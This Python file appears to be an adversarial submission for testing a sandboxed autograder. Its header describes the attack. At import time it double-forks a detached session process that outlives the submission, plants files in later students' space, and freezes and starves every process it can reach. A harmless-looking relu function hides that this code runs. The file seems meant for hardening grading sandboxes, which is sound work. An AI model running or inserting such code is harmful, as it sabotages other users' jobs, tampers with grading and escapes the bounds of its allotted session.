# attack: leave a detached process (double fork, own session) that outlives its submission
#         and, while later students are graded, keeps planting files where they keep theirs
#         and stopping and starving every process it can reach
# levels: bwrap process-root
# the helpers of _common.py come first
# ruff: noqa


def _tamper_later():
    targets = _targets()
    pid = os.fork()
    if pid == 0:
        os.setsid()
        if os.fork() == 0:
            for _ in range(600):
                time.sleep(0.1)
                _plant()
                for target in targets:
                    for send in (lambda: os.kill(target, signal.SIGSTOP),
                                 lambda: os.setpriority(os.PRIO_PROCESS, target, 19)):
                        try:
                            send()
                        except OSError:
                            pass
            os._exit(0)
        os._exit(0)
    os.waitpid(pid, 0)
    return targets


_LEFT = _tamper_later()


def relu(x):
    return _zeros(x) + 0 * len(_LEFT)
